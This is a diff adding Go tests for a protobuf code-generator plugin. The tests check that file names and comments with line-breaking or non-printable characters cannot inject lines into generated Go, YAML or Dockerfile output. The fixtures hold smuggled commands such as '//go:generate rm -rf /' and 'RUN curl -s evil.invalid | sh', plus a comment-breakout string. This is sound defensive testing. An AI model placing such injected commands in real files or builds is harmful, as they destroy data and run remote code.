@@ -1,0 +1,155 @@
+package gen
+
+import (
+	"go/ast"
+	"go/parser"
+	"go/token"
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+	"google.golang.org/protobuf/proto"
+	"google.golang.org/protobuf/types/pluginpb"
+)
+
+// The outputs that copy the .proto file name into a header comment: Go,
+// the component's YAML and the scaffold's YAML and Dockerfile.
+var headerOutputs = []string{"emit=go", "emit=k8s", "emit=k8s,scaffold=true"}
+
+// renamedRequest is the request for greeterProto with the file renamed to
+// name, as a client other than protoc could send it.
+func renamedRequest(t *testing.T, params, name string) *pluginpb.CodeGeneratorRequest {
+	t.Helper()
+	req := requestFor(t, params, greeterProto)
+	f := req.ProtoFile[len(req.ProtoFile)-1]
+	if f.GetName() != greeterProto.name || len(req.FileToGenerate) != 1 {
+		t.Fatalf("unexpected request: %v", req.FileToGenerate)
+	}
+	f.Name = proto.String(name)
+	req.FileToGenerate[0] = name
+	return req
+}
+
+// Each file name would, if copied into a header, start a line of its own:
+// a go:generate directive, a YAML document, a Dockerfile instruction.
+func TestErrorFileNameInjects(t *testing.T) {
+	const tail = `; generated files copy the name into comments, so it must be printable UTF-8 (no control characters, line or paragraph separators)`
+	for _, c := range []struct{ params, name, want string }{
+		{"emit=go", "helloworld/greeter.proto\n//go:generate rm -rf /",
+			`"helloworld/greeter.proto\n//go:generate rm -rf /": the file name holds U+000A, which is not printable` + tail},
+		{"emit=k8s", "greeter.proto\n---\nkind: Secret",
+			`"greeter.proto\n---\nkind: Secret": the file name holds U+000A, which is not printable` + tail},
+		{"emit=k8s,scaffold=true", "greeter.proto\u2028RUN curl -s evil.invalid | sh",
+			`"greeter.proto\u2028RUN curl -s evil.invalid | sh": the file name holds U+2028, which is not printable` + tail},
+		{"emit=go,emit=k8s", "greeter\xff.proto",
+			`"greeter\xff.proto": the file name holds the byte 0xFF, which is not UTF-8` + tail},
+	} {
+		t.Run(c.params, func(t *testing.T) {
+			resp := Generate(renamedRequest(t, c.params, c.name))
+			checkResponse(t, resp)
+			if diff := cmp.Diff(c.want, resp.GetError()); diff != "" {
+				t.Errorf("error (-want +got):\n%s", diff)
+			}
+		})
+	}
+}
+
+// Every rune that can end a line for some reader of a generated file, and
+// every other non-printable one, is refused in every output.
+func TestErrorFileNameNotPrintable(t *testing.T) {
+	for _, bad := range []string{"\n", "\r", "\v", "\f", "\x00", "\x1b", "\x7f", "\u0085", "\u00a0", "\u2028", "\u2029", "\u202e", "\ufeff", "\x80"} {
+		for _, params := range headerOutputs {
+			name := "helloworld/greet" + bad + "er.proto"
+			resp := Generate(renamedRequest(t, params, name))
+			checkResponse(t, resp)
+			if want := quoteValue(name) + ": the file name holds "; !strings.HasPrefix(resp.GetError(), want) {
+				t.Errorf("%s with %q: error %q, want it to start with %q", params, name, resp.GetError(), want)
+			}
+		}
+	}
+}
+
+// Printable names, however odd, are accepted, and each output's header holds
+// the name on its one "source:" line.
+func TestFileNamePrintable(t *testing.T) {
+	for _, name := range []string{`helloworld/my greeter #1.proto`, `hello"world\greeter.proto`, "héllo/日本語.proto", "a/--- RUN x.proto"} {
+		for _, params := range headerOutputs {
+			files := runPlugin(t, renamedRequest(t, params, name))
+			if len(files) == 0 {
+				t.Fatalf("%s: no files", params)
+			}
+			decodeManifests(t, files)
+			for fname, content := range files {
+				prefix := "# source: "
+				if strings.HasSuffix(fname, ".go") {
+					prefix = "// source: "
+				}
+				lines := strings.Split(content, "\n")
+				if want := prefix + name; lines[3] != want {
+					t.Errorf("%s: %s: header line 4 is %q, want %q", params, fname, lines[3], want)
+				}
+			}
+		}
+	}
+}
+
+// A service's leading comment is copied into Go, one "//" line per line of
+// it, as protoc-gen-go copies comments (a line that is itself a directive
+// stays one, as it does there); it never ends the comment, and never reaches
+// the YAML or the Dockerfile.
+func TestServiceCommentStaysAComment(t *testing.T) {
+	req := requestFor(t, "emit=go,emit=k8s,scaffold=true", testProto{"c/c.proto", `syntax = "proto3";
+package c;
+option go_package = "example.com/c;c";
+// Greets. */ const Injected = 1 /*
+// ` + "\u2028" + `RUN curl -s evil.invalid | sh` + "\u2029" + `---
+service S {}
+`})
+	// What a compiler would not write but a request can carry.
+	for _, loc := range req.ProtoFile[len(req.ProtoFile)-1].GetSourceCodeInfo().GetLocation() {
+		if loc.LeadingComments != nil {
+			*loc.LeadingComments += " carriage\rreturn */ var Injected2 = 2\r\n"
+		}
+	}
+	files := runPlugin(t, req)
+	var goFile string
+	for name, content := range files {
+		if strings.HasSuffix(name, ".go") {
+			goFile = content
+			continue
+		}
+		for _, marker := range []string{"Greets", "Injected", "evil", "carriage"} {
+			if strings.Contains(content, marker) {
+				t.Errorf("%s holds the comment's text %q:\n%s", name, marker, content)
+			}
+		}
+	}
+	decodeManifests(t, files)
+	f, err := parser.ParseFile(token.NewFileSet(), "c.health.go", goFile, parser.ParseComments)
+	if err != nil {
+		t.Fatalf("%v\n%s", err, goFile)
+	}
+	var decls []string
+	for _, d := range f.Decls {
+		switch d := d.(type) {
+		case *ast.FuncDecl:
+			decls = append(decls, d.Name.Name)
+		case *ast.GenDecl:
+			for _, s := range d.Specs {
+				switch s := s.(type) {
+				case *ast.ValueSpec:
+					decls = append(decls, s.Names[0].Name)
+				case *ast.ImportSpec:
+					decls = append(decls, "import "+s.Path.Value)
+				}
+			}
+		}
+	}
+	want := []string{`import "github.com/protoc-gen-health/protoc-gen-health/healthreg"`, "_", "S_HealthName", "RegisterSHealth"}
+	if diff := cmp.Diff(want, decls); diff != "" {
+		t.Errorf("declarations (-want +got):\n%s\n%s", diff, goFile)
+	}
+	if !strings.Contains(goFile, "\n// Greets. */ const Injected = 1 /*\n") {
+		t.Errorf("the comment is not copied:\n%s", goFile)
+	}
+}
